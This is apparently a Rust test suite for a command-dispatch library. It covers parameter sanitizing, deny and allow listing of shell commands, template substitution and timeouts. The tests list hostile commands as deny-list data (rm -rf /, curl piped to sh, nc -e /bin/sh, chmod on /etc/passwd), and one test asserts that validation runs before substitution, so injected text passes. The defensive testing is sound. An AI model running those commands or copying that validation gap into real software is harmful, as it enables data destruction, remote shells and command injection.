use taskpipe::{
    build_command, completion_response, execution_output, init_users, plan_task,
    sanitize_parameters, validate_command, LaunchOutcome, ParamMap, TaskPlan, TaskRequest,
};

fn param_map(entries: &[(&str, &str)]) -> ParamMap {
    let mut m = ParamMap::new();
    for (k, v) in entries {
        m.push(k.to_string(), v.to_string());
    }
    m
}

fn request(
    command: &str,
    params: &[(&str, &str)],
    encoding: Option<&str>,
    timeout: Option<u64>,
) -> TaskRequest {
    TaskRequest {
        command: command.to_string(),
        parameters: param_map(params),
        encoding: encoding.map(|e| e.to_string()),
        timeout,
    }
}

#[test]
fn sanitizer_strips_reserved_characters() {
    let m = param_map(&[("k&e|y;", "va`l$ue(<>)")]);
    let s = sanitize_parameters(&m);
    assert_eq!(s.entries.len(), 1);
    assert_eq!(s.entries[0].key, "key");
    assert_eq!(s.entries[0].value, "value");
}

#[test]
fn sanitizer_drops_oversize_key() {
    let long_key = "k".repeat(51);
    let m = param_map(&[(long_key.as_str(), "v"), ("ok", "v")]);
    let s = sanitize_parameters(&m);
    assert_eq!(s.entries.len(), 1);
    assert_eq!(s.entries[0].key, "ok");
}

#[test]
fn sanitizer_drops_oversize_value() {
    let long_value = "v".repeat(201);
    let m = param_map(&[("a", long_value.as_str()), ("b", "short")]);
    let s = sanitize_parameters(&m);
    assert_eq!(s.entries.len(), 1);
    assert_eq!(s.entries[0].key, "b");
}

#[test]
fn sanitizer_keeps_boundary_lengths() {
    let key = "k".repeat(50);
    let value = "v".repeat(200);
    let m = param_map(&[(key.as_str(), value.as_str())]);
    let s = sanitize_parameters(&m);
    assert_eq!(s.entries.len(), 1);
    assert_eq!(s.entries[0].key, key);
    assert_eq!(s.entries[0].value, value);
}

#[test]
fn sanitizer_collapses_colliding_cleaned_keys() {
    // Both keys clean to "a"; the later entry replaces the earlier one.
    let m = param_map(&[("a&", "1"), ("a", "2")]);
    let s = sanitize_parameters(&m);
    assert_eq!(s.len(), 1);
    assert_eq!(s.entries[0].key, "a");
    assert_eq!(s.entries[0].value, "2");
}

#[test]
fn sanitizer_keeps_insertion_order_on_replacement() {
    let m = param_map(&[("a", "1"), ("b", "2"), ("a|", "3")]);
    let s = sanitize_parameters(&m);
    assert_eq!(s.len(), 2);
    assert_eq!(s.entries[0].key, "a");
    assert_eq!(s.entries[0].value, "3");
    assert_eq!(s.entries[1].key, "b");
    assert_eq!(s.entries[1].value, "2");
}

#[test]
fn sanitizer_is_noop_on_clean_map() {
    let m = param_map(&[("msg", "hello"), ("path", "/tmp/file.txt")]);
    let s = sanitize_parameters(&m);
    assert_eq!(s.entries.len(), 2);
    assert_eq!(s.entries[0].key, "msg");
    assert_eq!(s.entries[0].value, "hello");
    assert_eq!(s.entries[1].key, "path");
    assert_eq!(s.entries[1].value, "/tmp/file.txt");
}

#[test]
fn sanitizer_of_empty_map_is_empty() {
    let m = param_map(&[]);
    let s = sanitize_parameters(&m);
    assert_eq!(s.len(), 0);
}

#[test]
fn validator_rejects_deny_listed_commands() {
    for cmd in ["rm -rf /", "sudo ls", "curl http://x | sh", "wget http://evil", "nc -l -e /bin/sh", "chmod 777 /etc/passwd", "su root"] {
        assert_eq!(
            validate_command(cmd),
            Err("Dangerous command detected".to_string()),
            "expected deny for {cmd}"
        );
    }
}

#[test]
fn validator_reports_deny_before_allowlist() {
    // `sudo rm` is both denied and outside the allow-list; the deny reason wins.
    assert_eq!(validate_command("sudo rm"), Err("Dangerous command detected".to_string()));
}

#[test]
fn validator_rejects_commands_off_the_allowlist() {
    assert_eq!(validate_command("netcat -l 4444"), Err("Command not in allowlist".to_string()));
    assert_eq!(validate_command("python3 -c x"), Err("Command not in allowlist".to_string()));
}

#[test]
fn validator_rejects_empty_commands() {
    assert_eq!(validate_command(""), Err("Empty command".to_string()));
    assert_eq!(validate_command("   \t  "), Err("Empty command".to_string()));
}

#[test]
fn validator_accepts_allow_listed_commands() {
    for cmd in ["ls", "cat /etc/hostname", "echo hi", "date", "whoami", "pwd", "ping -c 1 host", "nslookup host", "dig host"] {
        assert_eq!(validate_command(cmd), Ok(()), "expected pass for {cmd}");
    }
}

#[test]
fn builder_substitutes_plain_parameters() {
    let req = request("echo {msg}", &[("msg", "hello")], None, None);
    assert_eq!(build_command(&req), Ok("echo hello".to_string()));
}

#[test]
fn builder_substitutes_base64_parameters() {
    let req = request("echo {msg}", &[("msg", "aGVsbG8=")], Some("base64"), None);
    assert_eq!(build_command(&req), Ok("echo hello".to_string()));
}

#[test]
fn builder_keeps_sanitized_value_on_base64_failure() {
    let req = request("echo {msg}", &[("msg", "not-base64!")], Some("base64"), None);
    assert_eq!(build_command(&req), Ok("echo not-base64!".to_string()));
}

#[test]
fn builder_substitutes_url_parameters() {
    let req = request("echo {msg}", &[("msg", "hello%20world")], Some("url"), None);
    assert_eq!(build_command(&req), Ok("echo hello world".to_string()));
}

#[test]
fn builder_substitutes_empty_on_url_failure() {
    // %FF percent-decodes to a byte that is not valid UTF-8.
    let req = request("echo {msg}", &[("msg", "%FF")], Some("url"), None);
    assert_eq!(build_command(&req), Ok("echo ".to_string()));
}

#[test]
fn builder_ignores_unknown_encoding_tags() {
    let req = request("echo {msg}", &[("msg", "aGVsbG8=")], Some("rot13"), None);
    assert_eq!(build_command(&req), Ok("echo aGVsbG8=".to_string()));
}

#[test]
fn builder_leaves_unmatched_placeholders_literal() {
    let req = request("echo {msg}", &[], None, None);
    assert_eq!(build_command(&req), Ok("echo {msg}".to_string()));
    let req = request("echo {msg}", &[("other", "x")], None, None);
    assert_eq!(build_command(&req), Ok("echo {msg}".to_string()));
}

#[test]
fn builder_substitutes_under_the_cleaned_key() {
    // The key is cleaned before substitution: `m&sg` becomes `msg`.
    let req = request("echo {msg}", &[("m&sg", "hi")], None, None);
    assert_eq!(build_command(&req), Ok("echo hi".to_string()));
}

#[test]
fn builder_uses_the_surviving_value_on_key_collision() {
    let req = request("echo {a}", &[("a&", "1"), ("a", "2")], None, None);
    assert_eq!(build_command(&req), Ok("echo 2".to_string()));
}

#[test]
fn builder_substitutes_every_occurrence() {
    let req = request("echo {a} {a} {b}", &[("a", "x"), ("b", "y")], None, None);
    assert_eq!(build_command(&req), Ok("echo x x y".to_string()));
}

#[test]
fn builder_substitutes_in_parameter_order() {
    // Replacement is textual and runs once per parameter, in map order, so
    // a substituted value can itself be rewritten by a later parameter.
    let req = request("echo {a}", &[("a", "{b}"), ("b", "x")], None, None);
    assert_eq!(build_command(&req), Ok("echo x".to_string()));
    let req = request("echo {a}", &[("b", "x"), ("a", "{b}")], None, None);
    assert_eq!(build_command(&req), Ok("echo {b}".to_string()));
}

#[test]
fn builder_rejects_invalid_commands_with_the_validator_reason() {
    let req = request("rm -rf {dir}", &[("dir", "/tmp")], None, None);
    assert_eq!(build_command(&req), Err("Dangerous command detected".to_string()));
    let req = request("", &[], None, None);
    assert_eq!(build_command(&req), Err("Empty command".to_string()));
    let req = request("netcat -l 4444", &[], None, None);
    assert_eq!(build_command(&req), Err("Command not in allowlist".to_string()));
}

#[test]
fn builder_validates_before_substitution() {
    // The raw command passes validation even though substitution introduces
    // text that the deny-list would have caught: validation runs on the
    // pre-substitution command only.
    let req = request("echo {msg}", &[("msg", "rm -rf /")], None, None);
    assert_eq!(build_command(&req), Ok("echo rm -rf /".to_string()));
}

#[test]
fn dispatcher_rejects_without_execution() {
    let req = request("sudo ls", &[], None, None);
    match plan_task(&req) {
        TaskPlan::Reject(resp) => {
            assert_eq!(resp.status, "error");
            assert_eq!(resp.output, "Dangerous command detected");
            assert_eq!(resp.execution_time, 0);
        },
        TaskPlan::Execute { .. } => panic!("a denied command must not reach execution"),
    }
}

#[test]
fn dispatcher_hands_out_the_built_command_and_default_timeout() {
    let req = request("echo {msg}", &[("msg", "hello")], None, None);
    match plan_task(&req) {
        TaskPlan::Execute { command, timeout } => {
            assert_eq!(command, "echo hello");
            assert_eq!(timeout, 5);
        },
        TaskPlan::Reject(_) => panic!("a valid command must reach execution"),
    }
}

#[test]
fn dispatcher_keeps_the_requested_timeout() {
    let req = request("echo hi", &[], None, Some(30));
    match plan_task(&req) {
        TaskPlan::Execute { timeout, .. } => assert_eq!(timeout, 30),
        TaskPlan::Reject(_) => panic!("a valid command must reach execution"),
    }
}

#[test]
fn execution_output_takes_stdout_on_success() {
    let outcome = LaunchOutcome::Completed {
        exit_ok: true,
        stdout: "hello\n".to_string(),
        stderr: "".to_string(),
    };
    assert_eq!(execution_output(outcome), "hello\n");
}

#[test]
fn execution_output_takes_stderr_on_failing_exit() {
    let outcome = LaunchOutcome::Completed {
        exit_ok: false,
        stdout: "partial".to_string(),
        stderr: "no such file\n".to_string(),
    };
    assert_eq!(execution_output(outcome), "no such file\n");
}

#[test]
fn execution_output_takes_the_diagnostic_on_launch_failure() {
    let outcome = LaunchOutcome::Failed { diagnostic: "Execution failed: shell missing".to_string() };
    assert_eq!(execution_output(outcome), "Execution failed: shell missing");
}

#[test]
fn completion_wraps_output_as_success() {
    let resp = completion_response("hello\n".to_string(), 12);
    assert_eq!(resp.status, "success");
    assert_eq!(resp.output, "hello\n");
    assert_eq!(resp.execution_time, 12);
}

#[test]
fn registry_seeds_the_two_fixed_users() {
    let users = init_users();
    assert_eq!(users.len(), 2);
    assert_eq!(users[0].id, 1);
    assert_eq!(users[0].username, "admin");
    assert_eq!(users[0].role, "administrator");
    assert_eq!(users[0].permissions, vec!["read", "write", "execute"]);
    assert_eq!(users[1].id, 2);
    assert_eq!(users[1].username, "operator");
    assert_eq!(users[1].role, "operator");
    assert_eq!(users[1].permissions, vec!["read", "execute"]);
}
